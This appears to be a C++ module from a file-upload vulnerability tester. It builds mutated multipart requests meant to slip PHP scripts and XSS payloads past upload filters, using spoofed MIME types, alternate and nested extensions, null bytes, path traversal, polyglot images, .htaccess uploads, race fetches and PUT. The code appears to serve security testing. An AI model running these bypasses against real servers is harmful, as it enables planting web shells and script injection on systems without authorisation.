#include "mutations/mutations.hpp"

#include <algorithm>
#include <cctype>

#include "common/error.hpp"
#include "common/strings.hpp"
#include "http/multipart.hpp"
#include "lab/interpret.hpp"

namespace ufu::mutations {

namespace {

constexpr std::string_view primary_extension = ".php";

// Fixed preference order for alternative interpreter extensions; the plan
// list carries the first three available to keep request counts small.
constexpr std::string_view alt_preference[] = {".php5", ".php8", ".phtml", ".php3",
                                               ".php4", ".php7"};

std::string truncate_at_nul_marker(std::string_view name) {
  size_t raw = name.find('\0');
  size_t literal = name.find("%00");
  size_t cut = std::min(raw, literal);
  return std::string(name.substr(0, std::min(cut, name.size())));
}

struct BaselineView {
  http::MultipartForm form;
  size_t file_index = 0;
};

BaselineView parse_baseline(const http::HttpRequest& baseline) {
  auto content_type = baseline.header("Content-Type");
  auto boundary = content_type ? http::boundary_from_content_type(*content_type) : std::nullopt;
  if (!boundary) raise(ErrorCode::no_file_part, "baseline is not a multipart upload");

  BaselineView view;
  view.form = http::parse_multipart(baseline.body, *boundary);
  size_t count = 0;
  for (size_t i = 0; i < view.form.parts.size(); ++i) {
    if (view.form.parts[i].filename) {
      view.file_index = i;
      ++count;
    }
  }
  if (count != 1) raise(ErrorCode::no_file_part, "baseline needs exactly one file part");
  return view;
}

class PlanBuilder {
public:
  PlanBuilder(const http::HttpRequest& baseline, BaselineView view, const ExtensionPolicy& policy)
      : baseline_(baseline), view_(std::move(view)), policy_(policy) {}

  MutationPlan plan(Technique technique, std::string filename,
                    std::optional<std::string> declared_type, std::string content,
                    bool has_marker) const {
    http::MultipartForm form = view_.form;
    auto& part = form.parts[view_.file_index];
    part.filename = filename;
    if (declared_type) part.declared_type = declared_type;
    part.content = std::move(content);

    // The baseline boundary is kept for determinism; on the rare collision
    // with forged content, extend it until it no longer occurs.
    std::string body;
    for (;;) {
      try {
        body = http::serialize_multipart(form);
        break;
      } catch (const Error& e) {
        if (e.code() != ErrorCode::boundary_collision || form.boundary.size() >= 70) throw;
        form.boundary += "x";
      }
    }

    MutationPlan out;
    out.technique = technique;
    out.request = baseline_;
    out.request.set_header("Content-Type", http::multipart_content_type(form.boundary));
    out.request.body = std::move(body);
    out.probe_names = predict_stored_names(filename, policy_);
    out.has_marker = has_marker;
    out.sent_name = std::move(filename);
    return out;
  }

  const http::FormPart& file_part() const { return view_.form.parts[view_.file_index]; }

private:
  const http::HttpRequest& baseline_;
  BaselineView view_;
  const ExtensionPolicy& policy_;
};

} // namespace

const char* technique_name(Technique technique) {
  switch (technique) {
    case Technique::none: return "none";
    case Technique::mime_spoof: return "mime_spoof";
    case Technique::alt_extension: return "alt_extension";
    case Technique::case_flip: return "case_flip";
    case Technique::infix_extension: return "infix_extension";
    case Technique::config_upload: return "config_upload";
    case Technique::nested_extension: return "nested_extension";
    case Technique::magic_polyglot: return "magic_polyglot";
    case Technique::metadata_image: return "metadata_image";
    case Technique::path_traversal: return "path_traversal";
    case Technique::null_byte: return "null_byte";
    case Technique::xss_name: return "xss_name";
    case Technique::race_window: return "race_window";
    case Technique::put_method: return "put_method";
  }
  return "unknown";
}

ArtifactSet build_artifact_set(const payloads::ExecMarker& marker, const ExtensionPolicy& policy) {
  using namespace payloads;
  ArtifactSet set;
  set.script = forge_plain_script(marker);
  set.xss_content = forge_xss(XssCarrier::file_content).artifact;
  set.xss_named = forge_xss(XssCarrier::file_name).artifact;
  set.magic_script = forge_magic_polyglot(marker, MagicHeader::gif87a);

  set.magic_xss.kind = PayloadKind::xss_html;
  set.magic_xss.bytes = "GIF87a" + std::string(xss_payload);
  set.magic_xss.suggested_name = "xss.html";

  set.meta_script = forge_image_metadata(marker, ImageContainer::png, 2, 2);
  set.meta_xss = forge_image_with_text(ImageContainer::png, 2, 2, xss_payload);
  set.meta_xss.suggested_name = "xss.html";

  set.config = forge_directory_config(policy.benign_disguise);
  return set;
}

std::string nest_extension(std::string_view name, std::string_view banned) {
  if (banned.empty() || banned.front() != '.') {
    raise(ErrorCode::invalid_argument, "banned extension must start with '.'");
  }
  // Clear pre-existing occurrences so the first occurrence of `banned` in the
  // result is the nested one.
  std::string stem(name);
  for (size_t hit; (hit = stem.find(banned)) != std::string::npos;) {
    stem.erase(hit, banned.size());
  }
  if (banned.size() < 2) return stem + std::string(banned) + std::string(banned);
  // stem + "." + c + banned + tail, where banned == "." + c + tail: deleting
  // the embedded `banned` leaves stem + banned.
  std::string out = stem;
  out += '.';
  out += banned[1];
  out += banned;
  out += banned.substr(2);
  return out;
}

std::vector<std::string> predict_stored_names(std::string_view sent_name,
                                              const ExtensionPolicy&) {
  std::vector<std::string> out;
  auto push = [&out](std::string candidate) {
    if (candidate.empty()) return;
    if (std::find(out.begin(), out.end(), candidate) == out.end()) {
      out.push_back(std::move(candidate));
    }
  };
  push(std::string(sent_name));
  push(lab::strip_once(sent_name, primary_extension));
  push(truncate_at_nul_marker(sent_name));
  push(str::percent_decode(sent_name));
  push(std::string(str::basename(sent_name)));
  return out;
}

MutationPlan make_put_plan(std::string_view target_dir,
                           const payloads::PayloadArtifact& artifact) {
  MutationPlan plan;
  plan.technique = Technique::put_method;
  plan.request.method = http::Method::put;
  plan.request.target = str::percent_encode_path(std::string(target_dir) +
                                                 artifact.suggested_name);
  plan.request.set_header("Content-Type", "application/octet-stream");
  plan.request.body = artifact.bytes;
  plan.probe_names = {artifact.suggested_name};
  plan.has_marker = artifact.marker.has_value();
  plan.sent_name = artifact.suggested_name;
  return plan;
}

std::vector<MutationPlan> mutate_all(const http::HttpRequest& baseline,
                                     const ArtifactSet& artifacts,
                                     const ExtensionPolicy& policy) {
  PlanBuilder builder(baseline, parse_baseline(baseline), policy);

  const std::string base_name = *builder.file_part().filename;
  std::string stem = base_name;
  if (str::iends_with(stem, primary_extension)) {
    stem.resize(stem.size() - primary_extension.size());
  }
  const std::string& script = artifacts.script.bytes;
  const std::string& xss = artifacts.xss_content.bytes;
  const std::string xss_name = artifacts.xss_content.suggested_name;

  std::vector<MutationPlan> plans;

  // 1. none: the unmutated malicious baseline.
  plans.push_back(builder.plan(Technique::none, base_name, std::nullopt, script, true));

  // 2. mime_spoof: permissible declared types over hostile payloads.
  plans.push_back(builder.plan(Technique::mime_spoof, xss_name, "text/plain", xss, false));
  plans.push_back(builder.plan(Technique::mime_spoof, base_name, "image/png", script, true));

  // 3. alt_extension: other interpreter-routed extensions.
  int alts = 0;
  for (std::string_view ext : alt_preference) {
    if (alts == 3) break;
    if (std::find(policy.dangerous.begin(), policy.dangerous.end(), ext) ==
        policy.dangerous.end()) {
      continue;
    }
    plans.push_back(builder.plan(Technique::alt_extension, stem + std::string(ext), std::nullopt,
                                 script, true));
    ++alts;
  }

  // 4. case_flip: each extension letter flipped individually, plus all-upper.
  {
    std::string ext(primary_extension);
    for (size_t i = 1; i < ext.size(); ++i) {
      std::string flipped = ext;
      flipped[i] = static_cast<char>(std::isupper(static_cast<unsigned char>(flipped[i]))
                                         ? std::tolower(static_cast<unsigned char>(flipped[i]))
                                         : std::toupper(static_cast<unsigned char>(flipped[i])));
      plans.push_back(builder.plan(Technique::case_flip, stem + flipped, std::nullopt, script,
                                   true));
    }
    std::string upper = ext;
    for (auto& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
    plans.push_back(builder.plan(Technique::case_flip, stem + upper, std::nullopt, script, true));
  }

  // 5. infix_extension
  plans.push_back(builder.plan(Technique::infix_extension,
                               stem + std::string(primary_extension) + policy.benign_disguise,
                               std::nullopt, script, true));

  // 6. nested_extension
  plans.push_back(builder.plan(Technique::nested_extension,
                               nest_extension(stem, primary_extension), std::nullopt, script,
                               true));

  // 7. path_traversal: one and two levels.
  plans.push_back(builder.plan(Technique::path_traversal, "../" + base_name, std::nullopt, script,
                               true));
  plans.push_back(builder.plan(Technique::path_traversal, "../../" + base_name, std::nullopt,
                               script, true));

  // 8. null_byte: raw 0x00 and literal "%00", both encodings.
  plans.push_back(builder.plan(Technique::null_byte, xss_name + "%00" + policy.benign_disguise,
                               std::nullopt, xss, false));
  plans.push_back(builder.plan(Technique::null_byte,
                               base_name + std::string(1, '\0') + policy.benign_disguise,
                               std::nullopt, script, true));
  plans.push_back(builder.plan(Technique::null_byte, base_name + "%00" + policy.benign_disguise,
                               std::nullopt, script, true));

  // 9. xss_name: markup in the filename, benign content.
  plans.push_back(builder.plan(Technique::xss_name, artifacts.xss_named.suggested_name,
                               std::nullopt, artifacts.xss_named.bytes, false));

  // 10. magic_polyglot
  plans.push_back(builder.plan(Technique::magic_polyglot, artifacts.magic_xss.suggested_name,
                               std::nullopt, artifacts.magic_xss.bytes, false));
  plans.push_back(builder.plan(Technique::magic_polyglot, base_name, std::nullopt,
                               artifacts.magic_script.bytes, true));

  // 11. metadata_image
  plans.push_back(builder.plan(Technique::metadata_image, artifacts.meta_xss.suggested_name,
                               std::nullopt, artifacts.meta_xss.bytes, false));
  plans.push_back(builder.plan(Technique::metadata_image, base_name, std::nullopt,
                               artifacts.meta_script.bytes, true));

  // 12. config_upload: .htaccess first, marker file second.
  {
    MutationPlan config = builder.plan(Technique::config_upload, artifacts.config.suggested_name,
                                       std::nullopt, artifacts.config.bytes, false);
    MutationPlan companion = builder.plan(Technique::config_upload,
                                          "shell" + policy.benign_disguise, std::nullopt, script,
                                          true);
    config.companion = std::make_shared<MutationPlan>(std::move(companion));
    plans.push_back(std::move(config));
  }

  // 13. race_window: fetch while the upload is still being processed.
  {
    MutationPlan race_script = builder.plan(Technique::race_window, base_name, std::nullopt,
                                            script, true);
    race_script.race = true;
    plans.push_back(std::move(race_script));
    MutationPlan race_xss = builder.plan(Technique::race_window, xss_name, std::nullopt, xss,
                                         false);
    race_xss.race = true;
    plans.push_back(std::move(race_xss));
  }

  // 14. put_method: blind raw PUT next to the upload endpoint. Without page
  //     script awareness there is no way to learn the real PUT route, so the
  //     guess lands on the endpoint's own directory.
  {
    std::string target = baseline.target;
    if (size_t q = target.find('?'); q != std::string_view::npos) target.resize(q);
    plans.push_back(make_put_plan(str::dirname(target), artifacts.script));
  }

  return plans;
}

} // namespace ufu::mutations
